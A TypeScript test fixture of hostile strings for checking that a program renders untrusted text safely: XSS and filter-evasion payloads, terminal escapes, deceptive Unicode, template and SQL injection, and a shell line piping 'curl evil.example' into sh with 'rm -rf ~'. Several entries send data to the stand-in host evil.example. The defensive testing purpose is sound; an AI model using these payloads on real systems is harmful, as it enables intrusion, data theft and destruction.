/**
 * Texts that attack the program that shows them: one row for each idea of the public cheat sheets (OWASP's filter evasion, PortSwigger's
 * cross-site scripting, terminal escapes, deceptive Unicode). Shared by the tests of every output, in units and in the browser.
 */
export interface HostileText {
  name: string
  text: string
  /** Where this is taken for HTML it adds an element, or runs: a test that sees nothing then is blind. */
  isMarkup: boolean
}

const markup: [name: string, text: string][] = [
  ['script', '<script>alert(1)</script>'],
  ['script in mixed case', '<ScRiPt>alert(1)</sCrIpT>'],
  ['script of another host', '<script src="//evil.example/x.js"></script>'],
  ['script that a filter would join', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['script left open', '<script>alert(1)//'],
  ['image with a handler', '<img src=x onerror=alert(1)>'],
  ['image without quotes or spaces', '<img/src=x/onerror=alert(1)//'],
  ['image with a handler in entities', '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">'],
  ['image with backticks', '<img src=`x` onerror=alert`1`>'],
  ['image that reports to another host', '<img src="http://evil.example/steal.png">'],
  ['image set', '<picture><source srcset="//evil.example/a.png"><img src=x></picture>'],
  ['SVG that loads', '<svg onload=alert(1)>'],
  ['SVG with a script', '<svg><script>alert&lpar;1&rpar;</script></svg>'],
  ['SVG animation', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'],
  ['SVG link', '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>'],
  ['SVG foreign object', '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>'],
  ['MathML link', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'],
  ['MathML that changes the parser', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">'],
  ['body that loads', '<body onload=alert(1)><b>x</b>'],
  ['focus by itself', '<input autofocus onfocus=alert(1)>'],
  ['details that toggles', '<details open ontoggle=alert(1)><summary>x</summary></details>'],
  ['video source', '<video><source onerror=alert(1)></video>'],
  ['audio', '<audio src=x onerror=alert(1)></audio>'],
  ['marquee', '<marquee onstart=alert(1)>x</marquee>'],
  ['popover', '<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>x'],
  ['hidden until found', '<div hidden=until-found onbeforematch=alert(1)>x</div>'],
  ['CSS animation handler', '<style>@keyframes x{}</style><xss style="animation-name:x" onanimationend="alert(1)"></xss>'],
  ['style that reports', '<style>@import "//evil.example/x.css";</style>'],
  ['style attribute', '<p style="position:fixed;inset:0;background:url(//evil.example/a)">x</p>'],
  ['style sheet', '<link rel=stylesheet href="//evil.example/x.css">'],
  ['frame', '<iframe src="javascript:alert(1)"></iframe>'],
  ['frame with srcdoc', '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>'],
  ['object', '<object data="data:text/html,<script>alert(1)</script>"></object>'],
  ['embed', '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'],
  ['base', '<base href="//evil.example/">'],
  ['refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['form', '<form action="//evil.example/"><input name=token><button>Log in</button></form>'],
  ['form action of a button', '<form><button formaction="javascript:alert(1)">x</button></form>'],
  ['template with a shadow', '<div><template shadowrootmode="open"><img src=x onerror=alert(1)></template></div>'],
  ['link to a script', '<a href="javascript:alert(1)">x</a>'],
  ['link to a script, with a tab', '<a href="jav\tascript:alert(1)">x</a>'],
  ['link to a script, in entities', '<a href="&#x6A;avascript&colon;alert(1)">x</a>'],
  ['link to data', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['clobbered names', '<img name=body><form id=document><input id=location></form>'],
  ['end of an attribute', '"><img src=x onerror=alert(1)>'],
  ['end of a quoted attribute', `'" onmouseover=alert(1) autofocus onfocus=alert(1) x="<b>`],
  ['end of a title', '</title><img src=x onerror=alert(1)>'],
  ['end of a textarea', '</textarea><img src=x onerror=alert(1)>'],
  ['end of a style', '</style><img src=x onerror=alert(1)>'],
  ['end of a script', '</script><script>alert(1)</script>'],
  ['end of a comment', '--><img src=x onerror=alert(1)><!--'],
  ['end of CDATA', ']]><img src=x onerror=alert(1)>'],
  ['end of noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['conditional comment', '<!--[if true]><script>alert(1)</script><![endif]--><b>x</b>'],
  ['polyglot', 'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e'],
] // prettier-ignore

const others: [name: string, text: string][] = [
  ['script address', 'javascript:alert(1)'],
  ['script address with a tab and a comment', 'java\tscript://%0aalert(1)'],
  ['data address', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ['user in an address', 'https://docs.example.com@evil.example/reset'],
  ['backslash in an address', 'https:\\\\evil.example\\@docs.example.com/'],
  ['Cyrillic host', 'https://\u0430\u0440\u0440\u04cf\u0435.com/login'],
  ['double-encoded', '%253Cscript%253Ealert(1)%253C/script%253E'],
  ['escaped twice', '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;'],
  ['UTF-7', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
  ['overlong brackets', '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e'],
  ['template of a framework', '{{constructor.constructor("alert(1)")()}}'],
  ['template literal', '${alert(1)}'],
  ['template of a server', '<%= system("id") %> #{7*7} ${{7*7}}'],
  ['format string', '%s%n%c color:red'],
  ['prototype', '__proto__'],
  ['constructor', 'constructor.prototype.polluted'],
  ['Markdown link', '[log in again](javascript:alert(1))'],
  ['Markdown link to a host', '[docs](https://evil.example/ "title")'],
  ['Markdown image', '![x](https://evil.example/steal.png)'],
  ['Markdown reference', '[x]: https://evil.example/\n\n[x]'],
  ['Markdown autolink', '<https://evil.example/> www.evil.example mail@evil.example'],
  ['Markdown HTML', 'a **b** <b>c</b> `d` ~~e~~ | f |'],
  ['Markdown end of a fence', '```\n</code></pre><img src=x onerror=alert(1)>\n~~~~\n# Heading\n---'],
  ['Markdown footnote and mention', '[^1] @everyone #1 :tada:\n\n[^1]: note'],
  ['Markdown table and task', '- [ ] a\n\n| a | b |\n|---|---|\n| 1 | <script>alert(1)</script> |'],
  ['colour of a terminal', '\u001b[31;5mred\u001b[0m'],
  ['screen of a terminal', '\u001b[2J\u001b[H\u001b[?1049hgone'],
  ['link of a terminal', '\u001b]8;;https://evil.example/\u001b\\docs\u001b]8;;\u001b\\'],
  ['clipboard of a terminal', '\u001b]52;c;cm0gLXJmIH4=\u0007'],
  ['title of a terminal', '\u001b]0;owned\u0007'],
  ['C1 controls', '\u009b31m\u009d0;owned\u009c\u0090q\u009c'],
  ['line drawn over', 'ok\rgone\b\b\b\u007f\u000b\u000cx'],
  ['answer of a terminal', '\u001b[6n\u001b[c\u0005'],
  ['NUL', 'a\u0000b'],
  ['right-to-left override', 'invoice_\u202Efdp.exe'],
  ['isolates', 'a\u2066b\u2067c\u2068d\u2069 \u202ae\u202bf\u202cg'],
  ['marks of direction', 'a\u200eb\u200fc\u061cd'],
  ['zero width', 'pay\u200bpal\u200c\u200d\u2060\ufeff\u00ad.com'],
  ['tags', 'x\u{e0001}\u{e0068}\u{e0069}'],
  ['selectors that hide data', 'x\ufe01\ufe02\u{e0101}\u{e0102}'],
  ['separators of lines', 'a\u2028b\u2029c\u0085d'],
  ['unpaired surrogate', 'a\ud800b'],
  ['piled accents', `z${'\u0301\u0317'.repeat(200)}algo`],
  ['fillers', 'a\u3164b\u2800c\u115f\uffa0d'],
  ['Arabic', '\u0627\u0644\u0637\u0644\u0628 \u063a\u064a\u0631 \u0635\u0627\u0644\u062d (400)'],
  ['spreadsheet formula', '=HYPERLINK("https://evil.example/?"&A1,"x")'],
  ['shell', '$(rm -rf ~); `id` && curl evil.example|sh'],
  ['SQL', `' OR 1=1; DROP TABLE users; --`],
] // prettier-ignore

export const hostileTexts: HostileText[] = [
  ...markup.map(([name, text]) => ({ name, text, isMarkup: true })),
  ...others.map(([name, text]) => ({ name, text, isMarkup: false })),
]

/** Responses with the text in every place that a server fills: code, message, field, header, request ID and link. */
export function responsesWith(text: string): string[] {
  const inHeader = text.replace(/[\r\n]+/g, ' ')
  const challenge = `Bearer error="${inHeader}", error_description="${inHeader}"`
  const head = `HTTP/1.1 400 ${inHeader}\nContent-Type: application/json\nX-Request-Id: ${inHeader}\nServer: ${inHeader}\nRetry-After: ${inHeader}\nWWW-Authenticate: ${challenge}\n\n`
  const field = { field: text, requirement: text, request_id: text }
  const error = { code: text, message: text, details: field, doc_url: `https://docs.example.com/${text}` }
  const problem = { type: text, title: text, status: 400, detail: text, instance: text }
  const items = [{ loc: ['body', text], msg: text, type: text, input: text }, { loc: [text], msg: text, type: text }] // prettier-ignore
  return [
    head + inAscii({ error }),
    head + JSON.stringify({ error, [text]: text }),
    head + inAscii({ ...problem, errors: [{ pointer: text, detail: text, code: text }] }),
    `HTTP/1.1 429 Slow\n\n${inAscii({ code: 'slow', message: `Try again ${inHeader.slice(0, 30)} in 20 s, or wait ${text}` })}`,
    head + inAscii({ detail: items }),
    inAscii({
      errors: [{ id: text, code: text, title: text, detail: text, source: { pointer: text } }, { code: text }],
    }),
    text,
    `GET /${encodeURI(text.toWellFormed())} HTTP/1.1\nHost: ${inHeader}\n\nHTTP/1.1 502 ${inHeader}\nServer: ${inHeader}\n\n${text}`,
  ]
}

/** As most servers write JSON, so that nothing in it is taken off with what a terminal or a chat has added. */
const inAscii = (value: unknown) =>
  JSON.stringify(value).replace(/[^ -~]/g, (unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, '0')}`)
